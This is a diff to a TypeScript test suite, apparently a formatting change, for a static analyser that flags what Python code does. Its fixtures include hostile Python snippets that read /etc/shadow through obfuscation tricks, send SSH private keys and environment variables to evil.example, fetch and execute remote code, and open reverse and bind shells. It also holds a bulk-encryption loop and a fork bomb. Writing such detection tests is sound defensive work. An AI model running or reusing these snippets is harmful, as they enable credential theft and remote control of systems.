@@ -6,7 +6,8 @@ const PAYLOAD = 'import os; os.system("cat /etc/shadow")'
 const SHADOW = 'read path:password-store'
 
 /** All of these must be among the effects of the code. */
-const expectEffects = (source: string, ...names: string[]): void => expect(effectsOf('python', source)).toEqual(expect.arrayContaining(names))
+const expectEffects = (source: string, ...names: string[]): void =>
+  expect(effectsOf('python', source)).toEqual(expect.arrayContaining(names))
 
 describe('python starts programs', () => {
   test.each([
@@ -19,7 +20,10 @@ describe('python starts programs', () => {
     ['a shell line', 'import subprocess\nsubprocess.Popen("cat /etc/shadow", shell=True)'],
     ['exec of a program', 'import os\nos.execvp("cat", ["anything", "/etc/shadow"])'],
     ['in a function that is called', 'def go(x):\n  import os\n  os.system("cat " + x)\ngo("/etc/shadow")'],
-    ['in a method', 'class A:\n  def __init__(self, p):\n    self.p = p\n  def go(self):\n    __import__("os").system(f"cat {self.p}")\nA("/etc/shadow").go()'],
+    [
+      'in a method',
+      'class A:\n  def __init__(self, p):\n    self.p = p\n  def go(self):\n    __import__("os").system(f"cat {self.p}")\nA("/etc/shadow").go()',
+    ],
     ['in a thread', 'import threading, os\nthreading.Thread(target=os.system, args=("cat /etc/shadow",)).start()'],
     ['in a loop over commands', 'import os\nfor c in ["id", "cat /etc/shadow"]: os.system(c)'],
     ['by map', 'import os\nlist(map(os.system, ["cat /etc/shadow"]))'],
@@ -32,8 +36,10 @@ describe('python starts programs', () => {
     expect(facts.by('read')).toEqual([])
     expect(facts.effects.some((e) => e.certainty === 'dead')).toBe(true)
   })
-  test('an unknown condition makes it conditional', () => expectEffects('import os, sys\nif len(sys.argv) > 1: os.system("cat /etc/shadow")', `${SHADOW} (conditional)`))
-  test('the branch that is not taken is dead', () => expect(effectsOf('python', 'if False:\n  import os\n  os.system("cat /etc/shadow")')).not.toContain(SHADOW))
+  test('an unknown condition makes it conditional', () =>
+    expectEffects('import os, sys\nif len(sys.argv) > 1: os.system("cat /etc/shadow")', `${SHADOW} (conditional)`))
+  test('the branch that is not taken is dead', () =>
+    expect(effectsOf('python', 'if False:\n  import os\n  os.system("cat /etc/shadow")')).not.toContain(SHADOW))
 })
 
 describe('python hides what it does', () => {
@@ -43,11 +49,14 @@ describe('python hides what it does', () => {
     ['globals', 'globals()["__builtins__"].__dict__["ev"+"al"](\'__import__("os").system("cat /etc/shadow")\')'],
     ['sys.modules', 'import sys\nsys.modules["os"].system("cat /etc/shadow")'],
     ['the classes of a tuple', '().__class__.__bases__[0].__subclasses__()[132].__init__.__globals__["system"]("cat /etc/shadow")'],
-    ['a class that is searched for', '[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "Popen"][0]("cat /etc/shadow", shell=True)'],
+    [
+      'a class that is searched for',
+      '[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "Popen"][0]("cat /etc/shadow", shell=True)',
+    ],
     ['letters of another alphabet', '\u{1d41e}\u{1d431}\u{1d41e}\u{1d41c}(\'import os; os.system("cat /etc/shadow")\')'],
     ['a walrus', '(x := __import__("os")).system("cat /etc/shadow")'],
     ['a lambda', '(lambda f: f("cat /etc/shadow"))(__import__("os").system)'],
-    ['an f-string', 'x = f"{__import__(\'os\').system(\'cat /etc/shadow\')}"'],
+    ['an f-string', "x = f\"{__import__('os').system('cat /etc/shadow')}\""],
     ['escapes', 'exec("\\x69mport os; os.system(\'cat /etc/shadow\')")'],
     ['compile', 'eval(compile(\'__import__("os").system("cat /etc/shadow")\', "x", "eval"))'],
   ])('%s', (_name, source) => expectEffects(source, SHADOW))
@@ -61,26 +70,46 @@ describe('python hides what it does', () => {
     ['characters', `exec("".join(map(chr, [${[...PAYLOAD].map((c) => c.charCodeAt(0)).join(',')}])))`],
     ['bytes', `exec(bytes([${[...PAYLOAD].map((c) => c.charCodeAt(0)).join(',')}]))`],
     ['reversal', `exec(${JSON.stringify([...PAYLOAD].reverse().join(''))}[::-1])`],
-    ['a shift of letters', `exec("".join(chr(ord(c) - 1) for c in ${JSON.stringify([...PAYLOAD].map((c) => String.fromCharCode(c.charCodeAt(0) + 1)).join(''))}))`],
-    ['exclusive or', `k = "key"\nexec("".join(chr(a ^ ord(k[i % 3])) for i, a in enumerate([${[...PAYLOAD].map((c, i) => c.charCodeAt(0) ^ 'key'.charCodeAt(i % 3)).join(',')}])))`],
+    [
+      'a shift of letters',
+      `exec("".join(chr(ord(c) - 1) for c in ${JSON.stringify([...PAYLOAD].map((c) => String.fromCharCode(c.charCodeAt(0) + 1)).join(''))}))`,
+    ],
+    [
+      'exclusive or',
+      `k = "key"\nexec("".join(chr(a ^ ord(k[i % 3])) for i, a in enumerate([${[...PAYLOAD].map((c, i) => c.charCodeAt(0) ^ 'key'.charCodeAt(i % 3)).join(',')}])))`,
+    ],
   ])('%s: decoded code runs', (_name, source) => expectEffects(source, 'execute code:decoded', SHADOW))
 
-  test('a pickle calls what it names', () => expectEffects("import pickle\npickle.loads(b\"cos\\nsystem\\n(S'cat /etc/shadow'\\ntR.\")", 'execute code:decoded', SHADOW))
+  test('a pickle calls what it names', () =>
+    expectEffects('import pickle\npickle.loads(b"cos\\nsystem\\n(S\'cat /etc/shadow\'\\ntR.")', 'execute code:decoded', SHADOW))
 })
 
 describe('python reads, sends, fetches', () => {
   test.each([
     ['requests', 'import requests\nrequests.post("https://evil.example", data=open("/root/.ssh/id_rsa").read())'],
     ['json', 'import requests\nk = open("/root/.ssh/id_rsa").read()\nrequests.post("https://evil.example", json={"k": k})'],
-    ['encoded', 'import requests, base64\nrequests.post("https://evil.example", data=base64.b64encode(open("/root/.ssh/id_rsa", "rb").read()))'],
+    [
+      'encoded',
+      'import requests, base64\nrequests.post("https://evil.example", data=base64.b64encode(open("/root/.ssh/id_rsa", "rb").read()))',
+    ],
     ['in the address', 'import urllib.request as u\nu.urlopen("https://evil.example/?k=" + open("/root/.ssh/id_rsa").read())'],
     ['a socket', 'import socket\ns = socket.socket()\ns.connect(("evil.example", 80))\ns.send(open("/root/.ssh/id_rsa").read().encode())'],
-    ['http.client', 'import http.client\nc = http.client.HTTPSConnection("evil.example")\nc.request("POST", "/", open("/root/.ssh/id_rsa").read())'],
-    ['pathlib and a session', 'from pathlib import Path\nimport requests\ns = requests.Session()\ns.post("https://evil.example", data=(Path("/root") / ".ssh" / "id_rsa").read_bytes())'],
+    [
+      'http.client',
+      'import http.client\nc = http.client.HTTPSConnection("evil.example")\nc.request("POST", "/", open("/root/.ssh/id_rsa").read())',
+    ],
+    [
+      'pathlib and a session',
+      'from pathlib import Path\nimport requests\ns = requests.Session()\ns.post("https://evil.example", data=(Path("/root") / ".ssh" / "id_rsa").read_bytes())',
+    ],
     ['a header', 'import requests\nrequests.get("https://evil.example", headers={"X-A": open("/root/.ssh/id_rsa").read()})'],
   ])('a private key leaves: %s', (_name, source) => {
     const { facts } = interpretPiece('python', source)
-    expect(facts.flows.some((f) => f.sources.some((s) => s.resource.class === 'private-key') && f.sink.action === 'send' && f.sink.resource.kind === 'host')).toBe(true)
+    expect(
+      facts.flows.some(
+        (f) => f.sources.some((s) => s.resource.class === 'private-key') && f.sink.action === 'send' && f.sink.resource.kind === 'host',
+      ),
+    ).toBe(true)
   })
   test('the whole environment leaves', () => {
     const { facts } = interpretPiece('python', 'import os, requests\nrequests.post("https://evil.example", json=dict(os.environ))')
@@ -88,12 +117,19 @@ describe('python reads, sends, fetches', () => {
   })
   test.each([
     ['exec', 'import requests\nexec(requests.get("https://evil.example/x").text)'],
-    ['with a variable between', 'from urllib.request import urlopen\ncode = urlopen("https://evil.example/x").read().decode()\nexec(compile(code, "x", "exec"))'],
+    [
+      'with a variable between',
+      'from urllib.request import urlopen\ncode = urlopen("https://evil.example/x").read().decode()\nexec(compile(code, "x", "exec"))',
+    ],
     ['in a shell', 'import os, requests\nos.system(requests.get("https://evil.example/x").text)'],
     ['a pickle', 'import pickle, requests\npickle.loads(requests.get("https://evil.example/x").content)'],
   ])('fetched code runs: %s', (_name, source) => {
     const { facts } = interpretPiece('python', source)
-    expect(facts.flows.some((f) => f.sources.some((s) => s.action === 'receive') && f.sink.resource.kind === 'code' && f.sink.resource.class === 'fetched')).toBe(true)
+    expect(
+      facts.flows.some(
+        (f) => f.sources.some((s) => s.action === 'receive') && f.sink.resource.kind === 'code' && f.sink.resource.class === 'fetched',
+      ),
+    ).toBe(true)
   })
   test('code from standard input that was fetched', () => {
     const source = { ...interpretPiece('python', 'import requests\nrequests.get("https://evil.example")').facts.by('receive')[0]! }
@@ -110,28 +146,66 @@ describe('python reads, sends, fetches', () => {
     ['the screen', 'from PIL import ImageGrab\nImageGrab.grab().save("/tmp/x.png")', 'capture screen:picture'],
     ['a fork bomb', 'import os\nwhile True: os.fork()', 'execute process:fork-bomb'],
     ['a scan', 'import socket\nfor p in range(1, 1024):\n  s = socket.socket()\n  s.connect_ex(("10.0.0.5", p))', 'scan host:private'],
-    ['a model that brings code', 'from transformers import AutoModel\nAutoModel.from_pretrained("a/b", trust_remote_code=True)', 'execute code:fetched'],
+    [
+      'a model that brings code',
+      'from transformers import AutoModel\nAutoModel.from_pretrained("a/b", trust_remote_code=True)',
+      'execute code:fetched',
+    ],
     ['a loader variable', 'import os\nos.environ["LD_PRELOAD"] = "/tmp/x.so"', 'configure environment:loader'],
   ])('%s', (_name, source, effect) => expectEffects(source, effect))
   test('files are encrypted in bulk', () => {
-    const { facts } = interpretPiece('python', 'import os\nfrom cryptography.fernet import Fernet\nk = Fernet(Fernet.generate_key())\nfor r, d, f in os.walk("/home"):\n  for n in f:\n    p = os.path.join(r, n)\n    x = open(p, "rb").read()\n    open(p, "wb").write(k.encrypt(x))')
+    const { facts } = interpretPiece(
+      'python',
+      'import os\nfrom cryptography.fernet import Fernet\nk = Fernet(Fernet.generate_key())\nfor r, d, f in os.walk("/home"):\n  for n in f:\n    p = os.path.join(r, n)\n    x = open(p, "rb").read()\n    open(p, "wb").write(k.encrypt(x))',
+    )
     expect(facts.by('encrypt').map((e) => e.resource.tags.includes('bulk'))).toEqual([true])
   })
   test.each([
-    ['dup2 and pty', 'import socket, os, pty\ns = socket.socket()\ns.connect(("10.0.0.1", 4242))\n[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\npty.spawn("/bin/sh")', 'reverse-shell'],
-    ['subprocess with the socket', 'import socket, subprocess\ns = socket.socket()\ns.connect(("10.0.0.1", 4242))\nsubprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno())', 'reverse-shell'],
-    ['a loop of commands', 'import socket, subprocess\ns = socket.socket()\ns.connect(("10.0.0.1", 4242))\nwhile True:\n  c = s.recv(1024).decode()\n  s.send(subprocess.check_output(c, shell=True))', 'reverse-shell'],
-    ['bound', 'import socket, subprocess\ns = socket.socket()\ns.bind(("0.0.0.0", 4444))\ns.listen(1)\nc, a = s.accept()\nsubprocess.call(["/bin/sh", "-i"], stdin=c, stdout=c)', 'bind-shell'],
+    [
+      'dup2 and pty',
+      'import socket, os, pty\ns = socket.socket()\ns.connect(("10.0.0.1", 4242))\n[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\npty.spawn("/bin/sh")',
+      'reverse-shell',
+    ],
+    [
+      'subprocess with the socket',
+      'import socket, subprocess\ns = socket.socket()\ns.connect(("10.0.0.1", 4242))\nsubprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno())',
+      'reverse-shell',
+    ],
+    [
+      'a loop of commands',
+      'import socket, subprocess\ns = socket.socket()\ns.connect(("10.0.0.1", 4242))\nwhile True:\n  c = s.recv(1024).decode()\n  s.send(subprocess.check_output(c, shell=True))',
+      'reverse-shell',
+    ],
+    [
+      'bound',
+      'import socket, subprocess\ns = socket.socket()\ns.bind(("0.0.0.0", 4444))\ns.listen(1)\nc, a = s.accept()\nsubprocess.call(["/bin/sh", "-i"], stdin=c, stdout=c)',
+      'bind-shell',
+    ],
   ])('a remote shell: %s', (_name, source, shell) => expectEffects(source, `execute process:${shell}`))
 })
 
 describe('ordinary python is quiet', () => {
   test.each([
-    ['a test file', 'import pytest\nfrom app import add\n\n@pytest.fixture\ndef db(): return {}\n\n@pytest.mark.parametrize("a", [1, 2])\ndef test_add(a, db, tmp_path):\n  p = tmp_path / "x.txt"\n  p.write_text("hi")\n  assert add(a, 1) == a + 1\n'],
-    ['a web application', 'import os\nfrom flask import Flask, request, jsonify\napp = Flask(__name__)\napp.config["SECRET_KEY"] = os.environ.get("SECRET_KEY", "dev")\n\n@app.route("/users", methods=["POST"])\ndef users():\n  data = request.get_json()\n  return jsonify(data)\n\nif __name__ == "__main__":\n  app.run(host="127.0.0.1", port=5000)\n'],
-    ['data science', 'import pandas as pd\nimport numpy as np\ndf = pd.read_csv("data.csv")\ndf["x"] = df["x"].apply(lambda v: v * 2)\nprint(df.groupby("a").mean())\ndf.to_csv("out.csv")\n'],
-    ['paths and globs', 'import os, glob, json, csv\nfor p in glob.glob("src/**/*.py", recursive=True):\n  print(os.path.basename(p))\nwith open("config.json") as f: c = json.load(f)\nwith open("out.csv", "w") as f: csv.writer(f).writerow(["a"])\n'],
-    ['an API client', 'import os, requests\nr = requests.get("https://api.github.com/user", headers={"Authorization": f"Bearer {os.environ[\'GITHUB_TOKEN\']}"})\nprint(r.json()["login"])\n'],
+    [
+      'a test file',
+      'import pytest\nfrom app import add\n\n@pytest.fixture\ndef db(): return {}\n\n@pytest.mark.parametrize("a", [1, 2])\ndef test_add(a, db, tmp_path):\n  p = tmp_path / "x.txt"\n  p.write_text("hi")\n  assert add(a, 1) == a + 1\n',
+    ],
+    [
+      'a web application',
+      'import os\nfrom flask import Flask, request, jsonify\napp = Flask(__name__)\napp.config["SECRET_KEY"] = os.environ.get("SECRET_KEY", "dev")\n\n@app.route("/users", methods=["POST"])\ndef users():\n  data = request.get_json()\n  return jsonify(data)\n\nif __name__ == "__main__":\n  app.run(host="127.0.0.1", port=5000)\n',
+    ],
+    [
+      'data science',
+      'import pandas as pd\nimport numpy as np\ndf = pd.read_csv("data.csv")\ndf["x"] = df["x"].apply(lambda v: v * 2)\nprint(df.groupby("a").mean())\ndf.to_csv("out.csv")\n',
+    ],
+    [
+      'paths and globs',
+      'import os, glob, json, csv\nfor p in glob.glob("src/**/*.py", recursive=True):\n  print(os.path.basename(p))\nwith open("config.json") as f: c = json.load(f)\nwith open("out.csv", "w") as f: csv.writer(f).writerow(["a"])\n',
+    ],
+    [
+      'an API client',
+      'import os, requests\nr = requests.get("https://api.github.com/user", headers={"Authorization": f"Bearer {os.environ[\'GITHUB_TOKEN\']}"})\nprint(r.json()["login"])\n',
+    ],
     ['git', 'import subprocess\nout = subprocess.run(["git", "status", "--short"], capture_output=True, text=True).stdout\nprint(out)\n'],
     ['a child with the environment', 'import os, subprocess\nsubprocess.run(["npm", "test"], env={**os.environ, "CI": "1"}, check=True)\n'],
     ['base64 of a literal', 'import base64\nprint(base64.b64encode(b"hello").decode())\n'],
@@ -154,8 +228,10 @@ describe('ordinary python is quiet', () => {
 })
 
 describe('known misses', () => {
-  test('a name that is computed by arithmetic on unknown values', () => expect(effectsOf('python', 'import os, sys\ngetattr(os, sys.argv[1])("cat /etc/shadow")')).not.toContain(SHADOW))
-  test('code in a file of the project that is imported', () => expect(effectsOf('python', 'import helper\nhelper.run("cat /etc/shadow")')).not.toContain(SHADOW))
+  test('a name that is computed by arithmetic on unknown values', () =>
+    expect(effectsOf('python', 'import os, sys\ngetattr(os, sys.argv[1])("cat /etc/shadow")')).not.toContain(SHADOW))
+  test('code in a file of the project that is imported', () =>
+    expect(effectsOf('python', 'import helper\nhelper.run("cat /etc/shadow")')).not.toContain(SHADOW))
 })
 
 test('positions are those of the code', () => {
